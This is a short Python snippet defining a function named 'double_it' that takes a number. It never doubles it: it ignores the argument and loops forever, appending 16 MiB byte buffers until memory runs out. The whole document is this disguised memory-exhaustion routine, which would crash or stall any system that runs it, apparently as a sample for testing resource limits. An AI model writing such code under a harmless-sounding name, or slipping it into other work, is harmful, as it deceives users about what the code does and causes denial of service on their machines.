def double_it(n):
    held = []
    while True:
        held.append(bytearray(2**24))
